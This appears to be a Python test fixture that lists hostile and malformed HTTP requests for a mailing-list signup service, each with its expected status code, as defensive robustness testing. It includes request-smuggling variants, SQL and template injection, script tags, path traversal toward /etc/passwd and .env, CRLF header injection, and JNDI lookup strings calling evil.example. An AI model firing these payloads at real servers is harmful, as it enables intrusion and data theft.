"""Requests that no browser of ours sends, byte for byte, each with the status it is promised."""

from __future__ import annotations

from dataclasses import dataclass
from urllib.parse import urlencode

FORM = "application/x-www-form-urlencoded"
CUT = 0  # the connection is closed without an answer, or the answer is not HTTP/1
GOOD = {"email": "visitor@example.com", "page": "everyone"}
TOKEN = "a" * 43


@dataclass(frozen=True)
class Hostile:
    """One request as it goes over the wire, and the statuses it may get."""

    name: str
    sent: bytes
    statuses: tuple[int, ...]


def raw(line: str, headers: str = "Host: localhost\r\n", body: bytes = b"") -> bytes:
    """Return a request whose every byte is ours."""
    return f"{line}\r\n{headers}\r\n".encode("latin-1") + body


def get(path: str, more: str = "") -> bytes:
    """Return a GET."""
    return raw(f"GET {path} HTTP/1.1", f"Host: localhost\r\n{more}")


def post(body: bytes | dict[str, str], path: str = "/signup/", kind: str = FORM, more: str = "") -> bytes:
    """Return a POST with a length that is true."""
    data = urlencode(body).encode() if isinstance(body, dict) else body
    headers = f"Host: localhost\r\nContent-Type: {kind}\r\nContent-Length: {len(data)}\r\n{more}"
    return raw(f"POST {path} HTTP/1.1", headers, data)


def _headers(text: str) -> bytes:
    """Return a good form under other headers than a browser's."""
    body = urlencode(GOOD).encode()
    return raw("POST /signup/ HTTP/1.1", text.replace("LENGTH", str(len(body))), body)


_HTTP = {
    "TLS on a plain port": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64), 400),
    "HTTP/2 without asking": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 404),
    "HTTP/0.9": (b"GET /signup/\r\n\r\n", 400),
    "HTTP/9.9": (raw("GET /signup/ HTTP/9.9"), 303),
    "SSH": (b"SSH-2.0-OpenSSH_9.6\r\n\r\n", 400),
    "SMTP": (b"EHLO evil.example\r\n\r\n", 400),
    "only line ends": (b"\r\n" * 20 + get("/signup/health"), 400),
    "zeros": (bytes(2000) + b"\r\n\r\n", 400),
    "no host": (raw("GET /signup/ HTTP/1.1", ""), 400),
    "two hosts": (raw("GET /signup/ HTTP/1.1", "Host: a\r\nHost: b\r\n"), 400),
    "a space before the colon": (raw("GET /signup/ HTTP/1.1", "Host : localhost\r\n"), 400),
    "a header without a colon": (raw("GET /signup/ HTTP/1.1", "Host: localhost\r\nnonsense\r\n"), 400),
    "a header without a name": (get("/signup/", ": x\r\n"), 400),
    "a null byte in a header": (get("/signup/", "X: a\0b\r\n"), 400),
    "a control character in a header": (get("/signup/", "X: a\x01b\r\n"), 303),
    "a tab in a header's name": (get("/signup/", "X\tY: a\r\n"), 400),
    "a space in the path": (raw("GET /signup/ confirm HTTP/1.1"), 400),
    "a method of signs": (raw("G{}T /signup/ HTTP/1.1"), 400),
    "raw bytes in the path": (b"GET /signup/\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n", 400),
    "headers of 70 kB": (get("/signup/", f"X: {'y' * 70_000}\r\n"), 431),
    "an address of 70 kB": (get(f"/signup/stamp?{'a' * 70_000}"), 431),
    "a thousand headers": (get("/signup/", "".join(f"X{n}: {'y' * 20}\r\n" for n in range(1000))), 431),
    "two lengths": (
        _headers(f"Host: x\r\nContent-Type: {FORM}\r\nContent-Length: 5\r\nContent-Length: 6\r\n"),
        400,
    ),
    "a list of lengths": (_headers(f"Host: x\r\nContent-Type: {FORM}\r\nContent-Length: 5, 6\r\n"), 400),
    "a length below zero": (_headers(f"Host: x\r\nContent-Type: {FORM}\r\nContent-Length: -1\r\n"), 400),
    "a length with a plus": (_headers(f"Host: x\r\nContent-Type: {FORM}\r\nContent-Length: +5\r\n"), 400),
    "a length in hex": (_headers(f"Host: x\r\nContent-Type: {FORM}\r\nContent-Length: 0x20\r\n"), 400),
    "a length of words": (_headers(f"Host: x\r\nContent-Type: {FORM}\r\nContent-Length: many\r\n"), 400),
    "a length of 10^30": (
        _headers(f"Host: x\r\nContent-Type: {FORM}\r\nContent-Length: 1{'0' * 30}\r\n"),
        400,
    ),
    "a length that lies": (_headers(f"Host: x\r\nContent-Type: {FORM}\r\nContent-Length: 99999999\r\n"), 413),
    "an unknown transfer coding": (
        _headers(f"Host: x\r\nContent-Type: {FORM}\r\nTransfer-Encoding: gzip\r\n"),
        400,
    ),
    "a coding hidden by a sign": (
        _headers(f"Host: x\r\nContent-Type: {FORM}\r\nTransfer-Encoding: \x0bchunked\r\n"),
        400,
    ),
    "a chunk of no size": (
        raw(
            "POST /signup/ HTTP/1.1",
            f"Host: x\r\nContent-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n",
            b"zz\r\n",
        ),
        400,
    ),
    "a chunk of a size below zero": (
        raw(
            "POST /signup/ HTTP/1.1",
            f"Host: x\r\nContent-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n",
            b"-1\r\n",
        ),
        400,
    ),
    "chunks without end": (
        raw(
            "POST /signup/ HTTP/1.1",
            f"Host: x\r\nContent-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n",
            (b"1000\r\n" + b"a" * 4096 + b"\r\n") * 40,
        ),
        413,
    ),
    "a websocket": (
        get("/signup/", "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\n"),
        303,
    ),
    "an upgrade to h2c": (get("/signup/", "Upgrade: h2c\r\nConnection: Upgrade\r\n"), 303),
    "CONNECT": (raw("CONNECT evil.example:443 HTTP/1.1"), 404),
    "an address elsewhere": (raw("GET http://evil.example/signup/ HTTP/1.1"), 404),
    "OPTIONS *": (raw("OPTIONS * HTTP/1.1"), 404),
}

_KINDS = {
    "application/json": 415,
    "application/json; charset=utf-8": 415,
    "text/plain": 415,
    "text/html": 415,
    "text/xml": 415,
    "application/xml": 415,
    "multipart/form-data": 415,
    "multipart/form-data; boundary=x": 415,
    "multipart/mixed; boundary=x": 415,
    "application/octet-stream": 415,
    "application/x-www-form-urlencoded2": 415,
    "application/x-www-form-urlencoded, text/plain": 415,
    "*/*": 415,
    "": 415,
    "a" * 500: 415,
}

_BODIES: dict[str, tuple[bytes | dict[str, str], int]] = {
    "nothing": (b"", 400),
    "17 kB": ({**GOOD, "x": "y" * 17_000}, 413),
    "16 kB and one": (b"x" * 16_001, 413),
    "a value of 2,001": ({**GOOD, "email": "a" * 2_001}, 400),
    "41 fields": ({f"x{n}": "y" for n in range(41)}, 400),
    "only ampersands": (b"&" * 1000, 400),
    "only signs of equality": (b"=" * 1000, 400),
    "no names": (b"=a&=b", 400),
    "JSON in a form": (b'{"email":"a@example.com"}', 400),
    "bytes that are not UTF-8": (b"email=%ff%fe&page=everyone", 400),
    "an overlong slash": (b"email=%c0%af&page=everyone", 400),
    "half a surrogate": (b"email=%ed%a0%80&page=everyone", 400),
    "raw bytes": (b"email=\xff\xfe&page=everyone", 400),
    "raw UTF-8": ("email=anné@example.com&page=everyone".encode(), 400),
    "a broken escape": (b"email=%zz&page=everyone", 422),
    "UTF-16": ("email=a@example.com&page=everyone".encode("utf-16"), 400),
    "a null byte": ({**GOOD, "email": "a@example.com\0"}, 400),
    "a line end": ({**GOOD, "email": "a@example.com\r\nBcc: b@example.com"}, 400),
    "a bare line feed": ({**GOOD, "email": "a@example.com\nBcc: b@example.com"}, 400),
    "a vertical tab": ({**GOOD, "email": "a\x0b@example.com"}, 400),
    "an escape": ({**GOOD, "email": "\x1b[31m@example.com"}, 400),
    "a right-to-left override": ({**GOOD, "email": "a\u202e@example.com"}, 400),
    "a zero-width space": ({**GOOD, "email": "a\u200b@example.com"}, 400),
    "a byte order mark": ({**GOOD, "email": "\ufeffa@example.com"}, 400),
    "a line separator": ({**GOOD, "email": "a\u2028@example.com"}, 400),
    "a control character in another field": ({**GOOD, "x": "\x07"}, 400),
    "two addresses": (b"email=a@example.com&email=b@example.com&page=everyone", 400),
    "two pages": (b"email=a@example.com&page=everyone&page=candidates", 400),
    "two traps": (b"email=a@example.com&page=everyone&leave_empty=&leave_empty=", 400),
    "an array": (b"email[]=a@example.com&page=everyone", 422),
    "an object": (b"email[$ne]=a@example.com&page=everyone", 422),
    "a prototype": ({**GOOD, "email": "", "__proto__[x]": "y"}, 422),
    "no page": ({"email": "a@example.com"}, 400),
    "an empty page": ({**GOOD, "page": ""}, 400),
    "an unknown page": ({**GOOD, "page": "nowhere"}, 400),
    "a page up the tree": ({**GOOD, "page": "../../etc/passwd"}, 400),
    "a page with a null byte": ({**GOOD, "page": "everyone\0"}, 400),
    "a page in capitals": ({**GOOD, "page": "EVERYONE"}, 400),
    "a page that is a template": ({**GOOD, "page": "{{7*7}}"}, 400),
    "a page that is SQL": ({**GOOD, "page": "everyone' OR 1=1 --"}, 400),
    "a page that is a result": ({**GOOD, "page": "confirm"}, 400),
}

_ADDRESSES = (
    "",
    " ",
    "@",
    "a",
    "a@",
    "@example.com",
    "a@@example.com",
    "a b@example.com",
    "a@example.com b@example.com",
    "a@example.com,b@example.com",
    "a@example.com;b@example.com",
    "Anna <a@example.com>",
    '"Buy pills"@example.com',
    "a@example",
    "a@localhost",
    "a@[127.0.0.1]",
    "a@[IPv6:::1]",
    "a@127.0.0.1",
    "a@.com",
    "a@example..com",
    "a@-example.com",
    "a@example.com.",
    ".a@example.com",
    "a.@example.com",
    "a..b@example.com",
    "a@exam_ple.com",
    "a@example.com?subject=x",
    "a@example.com/../x",
    "<script>alert(1)</script>@example.com",
    "a@<script>.com",
    "${jndi:ldap://evil.example/a}@example.com",
    "{{7*7}}@{{7*7}}.com",
    "' OR 1=1 --@example.com",
    "mailto:a@example.com",
    "ä@example.com",
    f"a@{'b' * 64}.com",
    f"{'a' * 60}@{'b' * 60}.{'c' * 60}.{'d' * 70}.com",
)

_TOKENS = (
    "",
    "x",
    "a" * 42,
    "a" * 44,
    "a" * 42 + "'",
    "a" * 42 + "=",
    "a" * 42 + "%00",
    "../../x",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "a" * 1999,
)

_PATHS = {
    "/signup": 404,
    "//signup/": 404,
    "/signup//": 404,
    "/Signup/": 404,
    "/signup/..": 404,
    "/signup/../": 404,
    "/signup/%2e%2e/outbox/": 404,
    "/signup/..%2f..%2fetc/passwd": 404,
    "/signup/confirm/": 404,
    "/signup/confirm;x=1": 404,
    "/signup/confirm%00": 404,
    "/signup/.git/config": 404,
    "/signup/.env": 404,
    "/signup/admin": 404,
    "/signup/wp-login.php": 404,
    "/signup/health?x=%ff": 200,
    "/signup/stamp?callback=alert": 200,
    "/": 404,
}

# Headers that want to be believed: the form is taken all the same, and nobody is led astray.
_FORGED = (
    "Host: evil.example",
    "Host: localhost\r\nX-Forwarded-Host: evil.example",
    "Host: localhost\r\nX-Forwarded-For: 127.0.0.1, evil",
    "Host: localhost\r\nX-Forwarded-Proto: gopher",
    "Host: localhost\r\nForwarded: host=evil.example;for=evil",
    "Host: localhost\r\nX-Original-URL: /evil",
    "Host: localhost\r\nX-Rewrite-URL: /evil",
    "Host: localhost\r\nX-HTTP-Method-Override: DELETE",
    "Host: localhost\r\nReferer: https://evil.example/",
    "Host: localhost\r\nOrigin: https://evil.example",
    "Host: localhost\r\nCookie: session=x; admin=1",
    "Host: localhost\r\nAuthorization: Basic YWRtaW46YWRtaW4=",
    "Host: localhost\r\nExpect: 100-continue",
    "Host: localhost\r\nUser-Agent: ${jndi:ldap://evil.example/a}",
    "Host: localhost\r\nAccept-Language: <script>alert(1)</script>",
)


def table() -> list[Hostile]:
    """Return every hostile request."""
    rows = [Hostile(name, sent, (status,)) for name, (sent, status) in _HTTP.items()]
    rows += [
        Hostile(f"as {kind[:80]!r}", post(GOOD, kind=kind), (status,)) for kind, status in _KINDS.items()
    ]
    rows += [Hostile(name, post(body), (status,)) for name, (body, status) in _BODIES.items()]
    rows += [Hostile(f"address {one[:70]!r}", post({**GOOD, "email": one}), (422,)) for one in _ADDRESSES]
    for number, token in enumerate(_TOKENS):
        for path in ("confirm", "unsubscribe", "preferences"):
            asked = urlencode({"token": token})
            name = f"{path} with token {number} {token[:20]!r}"
            rows.append(Hostile(f"open {name}", get(f"/signup/{path}?{asked}"), (400, 404)))
            rows.append(Hostile(f"press {name}", post({"token": token}, f"/signup/{path}"), (400,)))
    rows += [Hostile(f"path {path}", get(path), (status,)) for path, status in _PATHS.items()]
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "HELLO"):
        for path in ("", "confirm", "unsubscribe", "preferences"):
            rows.append(Hostile(f"{method} {path}", raw(f"{method} /signup/{path} HTTP/1.1"), (405,)))
    rows += [
        Hostile(
            f"header {lines}",
            _headers(f"{lines}\r\nContent-Type: {FORM}\r\nContent-Length: LENGTH\r\n"),
            (303,),
        )
        for lines in _FORGED
    ]
    unknown = f"/signup/confirm?token={TOKEN}"
    rows += [
        Hostile("the outbox by another name", raw("GET /outbox/ HTTP/1.1", "Host: evil.example\r\n"), (404,)),
        Hostile("the outbox through a proxy", get("/outbox/", "X-Forwarded-For: 127.0.0.1\r\n"), (404,)),
        Hostile("a link nobody was sent, opened", get(unknown), (200,)),
        Hostile("a link nobody was sent, pressed", post({"token": TOKEN}, "/signup/confirm"), (303,)),
        Hostile(
            "one click without a token", post(b"List-Unsubscribe=One-Click", "/signup/unsubscribe"), (400,)
        ),
        Hostile(
            "one click that is a file of 20 kB",
            post(b"x" * 20_000, f"/signup/unsubscribe?token={TOKEN}", "multipart/form-data; boundary=x"),
            (413,),
        ),
        Hostile(
            "a list that is not there", post({"token": TOKEN, "list": "x"}, "/signup/preferences"), (400,)
        ),
    ]
    return rows
